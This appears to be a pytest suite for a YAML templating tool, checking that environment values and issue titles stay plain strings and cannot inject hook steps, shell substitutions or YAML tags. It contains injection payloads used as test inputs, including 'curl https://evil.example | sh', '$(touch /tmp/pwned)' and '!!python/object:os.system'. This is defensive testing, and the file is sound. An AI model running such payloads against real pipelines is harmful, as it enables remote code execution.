"""The structure-first dialect: YAML first, templates only in values, evaluated lazily, outside text as data."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest
import yaml

from codex_stacks.errors import CodexError, CombinedError, ConfigError, TemplateError
from codex_stacks.plan import PlanRequest, build_plan, load_settings
from codex_stacks.plan.check import check_everything
from tests.conftest import MakeProject

NS = "apiVersion: v1\nkind: Namespace\nmetadata:\n  name: {{ namespace }}\n"
HEAD = """\
project: demo
maxSlots: 3
envVars:
  V: {}
  ISSUE_TITLE: {}
environments:
  dev: {}
  ai: {}
infrastructure:
  - name: base
    manifests:
      - path: ns.yaml
"""

SPECIAL_VALUES = [
    "it's",
    'say "hi"',
    "two\nlines",
    "key: value",
    "a # not a comment",
    "{{ 7 * 7 }}",
    "&anchor",
    "*alias",
    "!!python/object:os.system",
    "- item",
    "x'\n    run: curl evil | sh\n  - name: injected",
]
"""Each can change YAML structure if it is pasted into YAML text."""


def _plan(root: Path, stack: str = "dev", mode: str = "normal"):  # type: ignore[no-untyped-def]
    return build_plan(PlanRequest(stack=stack, project_dir=root, mode=mode))


@pytest.mark.parametrize("value", SPECIAL_VALUES)
@pytest.mark.parametrize(
    ("written", "expected"),
    [
        ("context: x-{{ env_or('V') }}", "x-{value}"),  # plain scalar
        ("context: '{{ env_or(\"V\") }}'", "{value}"),  # single-quoted
        ("context: \"{{ env_or('V') }}\"", "{value}"),  # double-quoted
        ("context: |\n    {{ env_or('V') }}", "{value}\n"),  # block
    ],
    ids=["plain", "single", "double", "block"],
)
def test_outside_text_in_services_yaml_is_exactly_that_string(
    make_project: MakeProject, monkeypatch: pytest.MonkeyPatch, value: str, written: str, expected: str
) -> None:
    monkeypatch.setenv("V", value)
    text = HEAD + "codex:\n  project" + written[0].upper() + written[1:] + "\n"
    root = make_project(text, {"ns.yaml": NS})
    plan = _plan(root)
    assert plan.settings.codex.project_context == expected.format(value=value)
    assert [component.name for component in plan.components] == ["base"]  # nothing was added
    assert plan.hooks == ()


@pytest.mark.parametrize("value", SPECIAL_VALUES)
@pytest.mark.parametrize(
    ("written", "expected"),
    [
        ("  a: {{ env_or('V') }}", "{value}"),  # plain
        ("  a: '{{ env_or(\"V\") }}'", "{value}"),  # single-quoted
        ("  a: \"{{ env_or('V') }}\"", "{value}"),  # double-quoted
        ("  a: |\n    {{ env_or('V') }}", "{value}\n"),  # block
    ],
    ids=["plain", "single", "double", "block"],
)
def test_outside_text_in_a_manifest_is_exactly_that_string(
    make_project: MakeProject, monkeypatch: pytest.MonkeyPatch, value: str, written: str, expected: str
) -> None:
    monkeypatch.setenv("V", value)
    config_map = f"---\napiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: settings\ndata:\n{written}\n  b: fixed\n"
    root = make_project(HEAD, {"ns.yaml": NS + config_map})
    objects = _plan(root).component("base").objects
    assert [obj.key for obj in objects] == ["Namespace/demo-dev", "ConfigMap/demo-dev/settings"]
    assert objects[1].manifest["data"] == {"a": expected.format(value=value), "b": "fixed"}


def test_the_reproduced_injection_adds_no_hook_step(make_project: MakeProject, monkeypatch: pytest.MonkeyPatch) -> None:
    """A title that closes the quote and opens a new step stays one environment value."""
    title = "fix'\n    - name: evil\n      run: curl https://evil.example | sh\n      env: {X: '"
    monkeypatch.setenv("ISSUE_TITLE", title)
    root = make_project(
        HEAD
        + textwrap.dedent("""\
        hooks:
          beforeAll:
            - name: note
              run: 'echo "$TITLE"'
              env:
                TITLE: '{{ env_or("ISSUE_TITLE") }}'
        """),
        {"ns.yaml": NS},
    )
    hooks = _plan(root).hooks
    assert [hook.step for hook in hooks] == ["note"]
    assert hooks[0].params["script"] == 'echo "$TITLE"'
    assert hooks[0].secret_values == {"env:TITLE": title}


def test_run_scripts_are_not_templates(make_project: MakeProject, monkeypatch: pytest.MonkeyPatch) -> None:
    """Outside text reaches a script only through env: (never spliced into it, so no $(…) runs)."""
    monkeypatch.setenv("ISSUE_TITLE", "$(touch /tmp/pwned)")
    root = make_project(
        HEAD + "hooks:\n  beforeAll:\n    - name: note\n      run: 'echo {{ env_or(\"ISSUE_TITLE\") }}'\n",
        {"ns.yaml": NS},
    )
    (hook,) = _plan(root).hooks
    assert hook.params["script"] == 'echo {{ env_or("ISSUE_TITLE") }}'
    assert "pwned" not in str(hook.params)


def test_an_outside_value_inside_a_bigger_expression_fails_naming_its_source(
    make_project: MakeProject, monkeypatch: pytest.MonkeyPatch
) -> None:
    config_map = "---\napiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: x\ndata:\n  a: {{ 'v-' ~ env_or('V') }}\n"
    root = make_project(HEAD, {"ns.yaml": NS + config_map})
    monkeypatch.setenv("V", "safe-text.1")
    assert _plan(root).component("base").objects[1].manifest["data"] == {"a": "v-safe-text.1"}
    monkeypatch.setenv("V", "x\nkind: Secret")
    with pytest.raises(TemplateError) as caught:
        _plan(root)
    assert "env_or('V')" in str(caught.value)
    assert "kind: Secret" not in str(caught.value)
    assert caught.value.location.file == root / "ns.yaml"
    assert caught.value.location.line == 11
    monkeypatch.setenv("V", "x\nkind: Secret")
    quoted = config_map.replace("{{ 'v-' ~ env_or('V') }}", "{{ ('v-' ~ env_or('V')) | quote }}")
    (root / "ns.yaml").write_text(NS + quoted, encoding="utf-8")
    assert _plan(root).component("base").objects[1].manifest["data"] == {"a": "v-x\nkind: Secret"}


@pytest.mark.parametrize(
    ("written", "expected"),
    [
        ("'{{ 2 + 3 }}'", 5),
        ("'{{ 1.5 }}'", 1.5),
        ("'{{ false }}'", False),
        ('\'{{ ["a", "b"] }}\'', ["a", "b"]),
        ("'{{ {\"k\": 1} }}'", {"k": 1}),
        ("' {{ 2 + 3 }} '", 5),
        ("'{{ 2 }}{{ 3 }}'", "23"),
        ("'n{{ 2 + 3 }}'", "n5"),
    ],
)
def test_a_value_that_is_one_expression_keeps_its_type(
    make_project: MakeProject, written: str, expected: object
) -> None:
    root = make_project(HEAD + f"vars:\n  value: {written}\n", {"ns.yaml": NS})
    scope = load_settings(PlanRequest(stack="dev", project_dir=root))[2]
    assert scope["value"] == expected
    assert type(scope["value"]) is type(expected)


def test_a_typed_expression_fills_a_typed_field(make_project: MakeProject) -> None:
    root = make_project(HEAD.replace("maxSlots: 3", "maxSlots: '{{ 1 + 2 }}'"), {"ns.yaml": NS})
    assert _plan(root, stack="ai-slot-3").target.slot == 3
    with pytest.raises(Exception, match="slot 4 is out of range"):
        _plan(root, stack="ai-slot-4")


def test_vars_see_the_context_and_only_the_vars_above_them(make_project: MakeProject) -> None:
    text = HEAD + textwrap.dedent("""\
        vars:
          first: '{{ project }}-{{ env }}'
          second: '{{ first }}-2'
        """)
    # a ConfigMap, not a Namespace: a Namespace other than the stack's needs declaring (kube_rules)
    root = make_project(
        text, {"ns.yaml": NS.replace("{{ namespace }}", "{{ second }}").replace("Namespace", "ConfigMap")}
    )
    assert _plan(root).component("base").objects[0].name == "demo-dev-2"
    forward = text.replace("first: '{{ project }}-{{ env }}'", "first: '{{ second }}'")
    (root / "services.yaml").write_text(forward, encoding="utf-8")
    with pytest.raises(TemplateError, match="'second' is undefined") as caught:
        _plan(root)
    assert caught.value.location.line == HEAD.count("\n") + 2
    assert caught.value.location.path == "vars.first"


def test_vars_may_not_hide_the_context(make_project: MakeProject) -> None:
    root = make_project(HEAD + "vars:\n  namespace: other\n", {"ns.yaml": NS})
    with pytest.raises(ConfigError, match="would hide the context variable") as caught:
        _plan(root)
    assert caught.value.location.line == HEAD.count("\n") + 2


def test_codex_vars_stay_apart_from_the_files_vars(make_project: MakeProject) -> None:
    root = make_project(HEAD + "vars:\n  feature: '{{ vars.feature | default(\"off\") }}'\n", {"ns.yaml": NS})
    scope = load_settings(PlanRequest(stack="dev", project_dir=root, vars={"feature": "on"}))[2]
    assert scope["feature"] == "on"
    assert load_settings(PlanRequest(stack="dev", project_dir=root))[2]["feature"] == "off"


BROKEN_ELSEWHERE = textwrap.dedent("""\
    services:
      - name: codex
        manifests: [{path: agent.yaml}]
      - name: off-by-when
        when: "{{ env == 'nowhere' }}"
        image: {repository: '{{ undefined_thing }}', tagTemplate: x}
        dependsOn: [no-such-item]
        manifests: [{path: missing.yaml}]
        colour: blue
        hooks:
          beforeApply:
            - {name: bad, use: sleep, with: {seconds: -5}}
    """)
AGENT = (
    "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: codex\n"
    "spec:\n  template:\n    spec:\n      containers:\n        - {name: codex, image: codex}\n"
)


def test_an_item_the_stack_does_not_select_is_never_evaluated(make_project: MakeProject) -> None:
    root = make_project(HEAD + BROKEN_ELSEWHERE, {"ns.yaml": NS, "agent.yaml": AGENT})
    plan = _plan(root)
    assert [component.name for component in plan.components] == ["base", "codex-agent", "codex"]
    assert [item.name for item in plan.skipped] == ["off-by-when"]


def test_validate_still_reports_all_of_it(make_project: MakeProject) -> None:
    text = (HEAD + BROKEN_ELSEWHERE).replace("env == 'nowhere'", "env == 'dev'")
    root = make_project(text, {"ns.yaml": NS, "agent.yaml": AGENT})
    problems = check_everything(PlanRequest(stack="dev", project_dir=root))
    messages = "\n".join(str(problem) for problem in problems)
    assert "unknown key 'colour'" in messages
    assert "'undefined_thing' is undefined" in messages
    assert "bad parameters for sleep" in messages
    with pytest.raises(CodexError):
        _plan(root)


@pytest.mark.parametrize(
    "breakage",
    [
        "    when: '{{ no_such_flag }}'\n",
        "    image: {repository: '{{ nope }}', tagTemplate: x}\n",
        "    dependsOn: [ghost]\n",
        "    manifests: [{path: gone.yaml}]\n",
        "    colour: blue\n",
    ],
    ids=["broken-when", "undefined-variable", "unknown-depends-on", "missing-manifest", "unknown-key"],
)
def test_repair_mode_is_not_stopped_by_a_group_outside_the_repair_set(make_project: MakeProject, breakage: str) -> None:
    text = HEAD + "  - name: observability\n" + breakage + BROKEN_ELSEWHERE.split("  - name: off-by-when")[0]
    root = make_project(text + "repair:\n  infrastructure: [base]\n", {"ns.yaml": NS, "agent.yaml": AGENT})
    with pytest.raises(CodexError):
        _plan(root)  # the whole stack needs the broken group
    plan = _plan(root, mode="repair")
    assert {component.name for component in plan.components} == {"base", "codex-agent", "codex"}
    assert ("observability", "not in the repair set") in {(item.name, item.reason) for item in plan.skipped}


def test_the_old_dialect_says_what_to_change(make_project: MakeProject) -> None:
    root = make_project("# header\n{% set code_root = env_or('X', '/srv') %}\n" + HEAD, {"ns.yaml": NS})
    with pytest.raises(ConfigError) as caught:
        _plan(root)
    assert caught.value.location.line == 2
    assert "'{% set code_root = … %}' lines are no longer part of services.yaml" in caught.value.message
    assert caught.value.hint == "move it to the top-level vars: mapping: vars: {code_root: '{{ env_or('X', '/srv') }}'}"


def test_statements_inside_a_value_are_refused(make_project: MakeProject) -> None:
    root = make_project(HEAD + "codex:\n  projectContext: '{% if true %}x{% endif %}'\n", {"ns.yaml": NS})
    with pytest.raises(TemplateError, match="only {{ … }} expressions are allowed") as caught:
        _plan(root)
    assert caught.value.location.path == "codex.projectContext"


def test_env_or_reads_only_declared_variables(make_project: MakeProject, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("UNDECLARED", "x")
    root = make_project(HEAD + "registry: '{{ env_or(\"UNDECLARED\") }}'\n", {"ns.yaml": NS})
    with pytest.raises(TemplateError, match=r"env_or\('UNDECLARED'\): UNDECLARED is not declared") as caught:
        _plan(root)
    assert caught.value.location.path == "registry"


@pytest.mark.parametrize("name", ["PULUMI_CONFIG_PASSPHRASE", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "CODEX_GH_PAT"])
def test_credentials_cannot_be_declared(make_project: MakeProject, name: str) -> None:
    root = make_project(HEAD.replace("  V: {}\n", f"  V: {{}}\n  {name}: {{secret: true}}\n"), {"ns.yaml": NS})
    with pytest.raises(ConfigError, match=f"envVars: {name} may not be read by templates") as caught:
        _plan(root)
    assert caught.value.location.line == 5


def test_a_declared_secret_variable_marks_the_field_that_holds_it(
    make_project: MakeProject, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DB_PASSWORD", "canary-pw-7731")
    config_map = (
        "---\napiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: x\ndata:\n  url: {{ env_or('DB_PASSWORD') }}\n"
    )
    text = HEAD.replace("  V: {}\n", "  V: {}\n  DB_PASSWORD: {secret: true}\n")
    root = make_project(text, {"ns.yaml": NS + config_map})
    obj = _plan(root).component("base").objects[1]
    assert obj.manifest["data"]["url"] == "canary-pw-7731"
    assert obj.secret_paths == ("data.url",)


def test_the_json_schema_accepts_templates_where_values_go() -> None:
    import json

    import jsonschema

    schema = json.loads((Path(__file__).parents[2] / "schemas" / "services.schema.json").read_text())
    validator = jsonschema.Draft202012Validator(schema)
    good = yaml.safe_load(HEAD + "maxSlots: '{{ 4 }}'\nvars: {x: '{{ 1 }}'}\n".replace("maxSlots: 3\n", ""))
    assert list(validator.iter_errors(good)) == []
    assert list(validator.iter_errors({"project": "demo", "maxSlots": "many"}))
    assert list(validator.iter_errors({"project": "{{ name }}"}))


def test_many_problems_are_all_listed(make_project: MakeProject) -> None:
    root = make_project(
        "project: demo\nenvironments: {dev: {}}\ncolour: blue\nshape: round\nservices:\n  - name: Bad_Name\n"
    )
    with pytest.raises(CombinedError) as caught:
        _plan(root)
    lines = str(caught.value).splitlines()
    assert [line.split(": ", 2)[1] for line in lines if line.startswith(str(root))] == [
        "colour",
        "shape",
        "services[0].name",
    ]
